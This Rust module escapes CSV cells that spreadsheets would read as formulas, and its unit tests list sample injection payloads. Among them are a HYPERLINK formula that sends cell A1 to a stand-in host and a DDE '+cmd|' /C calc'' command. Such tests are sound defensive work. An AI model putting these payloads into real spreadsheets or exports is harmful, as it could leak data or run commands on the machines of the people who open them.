//! Cells of the CSV files the platform writes, made safe to open in a spreadsheet.
//!
//! Spreadsheet programs run a cell that begins with `=`, `+`, `-` or `@` (and, in some,
//! a tab or carriage return) as a formula, so an id such as `=HYPERLINK("http://…")`
//! echoed from an upload would run when staff open the report ("CSV injection").
//! [`formula_safe`] prefixes such a cell with a single quote, as OWASP recommends; a
//! cell that is a plain number (`-2` change since last week, `+3`, `-0.5`) is data and is
//! kept as it is. Every CSV writer calls it for every cell (header included); the map
//! client has the same rule in `web/src/lib/csv.js`.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell`, with a `'` in front when a spreadsheet would read it as a formula.
pub fn formula_safe(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(cell) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A decimal number and nothing else: optional sign, digits with an optional decimal
/// point, an optional exponent (`-2`, `+3`, `-0.5`, `.5`, `1e5`).
fn is_plain_number(text: &str) -> bool {
    let b = text.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while b.get(*i).is_some_and(u8::is_ascii_digit) {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised() {
        for cell in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "-",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "=1",
            "+",
            "-1e",
            "--1",
        ] {
            assert_eq!(formula_safe(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_kept() {
        for cell in [
            "-2",
            "+3",
            "-0.5",
            "0.5",
            ".5",
            "-.5",
            "5.",
            "1e5",
            "-1.5E-3",
            "969000.00",
            "猗氏镇",
            "无变化",
            "",
            "a=b",
            " =1",
        ] {
            assert_eq!(formula_safe(cell), cell, "{cell:?}");
            assert!(matches!(formula_safe(cell), Cow::Borrowed(_)));
        }
    }
}
